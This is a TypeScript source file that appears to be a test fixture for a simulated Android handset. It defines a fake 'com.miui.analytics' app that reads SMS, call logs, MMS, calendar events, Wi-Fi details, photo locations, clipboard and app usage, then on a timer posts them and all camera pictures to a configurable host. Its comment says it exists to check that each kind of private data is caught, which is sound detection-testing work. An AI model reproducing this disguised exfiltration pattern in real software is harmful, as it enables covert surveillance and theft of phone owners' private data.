import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Behaviour } from '../firmware-types.ts';
import type { App, System } from '../system.ts';
import type { AppContext } from './context.ts';
import { everyPeriod } from './schedule.ts';
import { dalvikAgent } from './user-agent.ts';

type Report = Extract<Behaviour, { kind: 'profile-report' }>;
type Field = Report['fields'][number];

const columns = (row: Record<string, unknown>): Record<string, string> =>
  Object.fromEntries(Object.entries(row).map(([name, value]) => [name, String(value)]));

/** What a field of the report says of the owner, as the handset's own stores have it. */
const readers: Readonly<Record<Exclude<Field, 'pictures'>, (system: System) => unknown>> = {
  sent: ({ providers }) => providers.sms.prepare('SELECT address, body FROM sms WHERE type = 2').all().map(columns),
  dialled: ({ providers }) => providers.contacts.prepare('SELECT number FROM calls WHERE type = 2').all().map(columns),
  mms: ({ providers }) =>
    providers.sms
      .prepare('SELECT addr.address, part.text FROM part JOIN addr ON addr.msg_id = part.mid WHERE addr.type = 137')
      .all()
      .map(columns),
  events: ({ providers }) =>
    providers.calendar.prepare('SELECT title, eventLocation FROM Events WHERE deleted = 0').all().map(columns),
  network: ({ wifi }) => ({ ssid: wifi.network.ssid, bssid: wifi.network.bssid }),
  places: ({ providers }) =>
    providers.media
      .prepare('SELECT latitude, longitude FROM images WHERE latitude IS NOT NULL')
      .all()
      .map((row) => `${row.latitude},${row.longitude}`),
  copied: ({ clipboard }) => clipboard.clip?.text ?? null,
  apps: ({ packages }) => packages.usage().map(({ name, starts, milliseconds }) => ({ name, starts, milliseconds })),
};

/** Where the camera keeps its pictures, below the handset's root. */
const camera = 'storage/emulated/legacy/DCIM/Camera';

/**
 * A program that gathers what it finds of its owner into one JSON text, and sends the camera's pictures as they are; made up to see that
 * each kind of private data is caught.
 */
export function createProfileReport(behaviour: Report, context: AppContext): App {
  const { system, network, random } = context;
  const post = async (path: string, type: string, body: Buffer, signal: AbortSignal): Promise<void> => {
    await network.request({
      method: 'POST',
      url: `http://${behaviour.host}${path}`,
      headers: [
        ['Content-Type', type],
        ['User-Agent', dalvikAgent(system.properties)],
        ['Host', behaviour.host],
        ['Connection', 'Keep-Alive'],
      ],
      body,
      signal,
    });
  };
  const report = async (signal: AbortSignal): Promise<void> => {
    const told = behaviour.fields.flatMap((field) => (field === 'pictures' ? [] : [[field, readers[field](system)]]));
    await post('/track/v1/profile', 'application/json', Buffer.from(JSON.stringify(Object.fromEntries(told))), signal);
    if (!behaviour.fields.includes('pictures')) return;
    for (const picture of picturesOf(system)) await post('/track/v1/picture', 'image/jpeg', picture, signal);
  };
  const log = (line: string) => context.log(`Profile: ${line}`);
  const { periodSeconds } = behaviour;
  return { package: 'com.miui.analytics', ...everyPeriod({ system, random, log, periodSeconds, task: report }) };
}

function picturesOf({ rootFolder }: System): Buffer[] {
  const folder = join(rootFolder, camera);
  try {
    return readdirSync(folder)
      .filter((name) => name.endsWith('.jpg'))
      .map((name) => readFileSync(join(folder, name)));
  } catch (error) {
    // No picture was taken yet, or one was removed meanwhile.
    if (error instanceof Error && 'code' in error && error.code === 'ENOENT') return [];
    throw error;
  }
}
